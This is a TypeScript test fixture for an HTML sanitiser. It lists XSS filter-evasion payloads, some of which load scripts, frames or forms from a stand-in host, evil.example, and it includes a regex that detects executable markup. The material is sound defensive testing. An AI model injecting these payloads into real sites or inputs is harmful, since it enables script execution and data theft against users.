/** Script-injection vectors (OWASP XSS filter evasion cheat sheet and friends) for sanitiser tests. */
export const HOSTILE_HTML = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=x><button>go</button></form>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<p onmouseover="alert(1)">hover</p>',
  '<details open ontoggle=alert(1)>',
  '<base href="https://evil.example/">',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
]

/** True when the markup still holds something a browser would execute or load from elsewhere. */
export const looksExecutable = (html: string) =>
  /<script|<iframe|<object|<embed|<svg|<style|<link|<meta|<base|<form|\son[a-z]+\s*=|javascript:|vbscript:|data:text/i.test(
    html,
  )
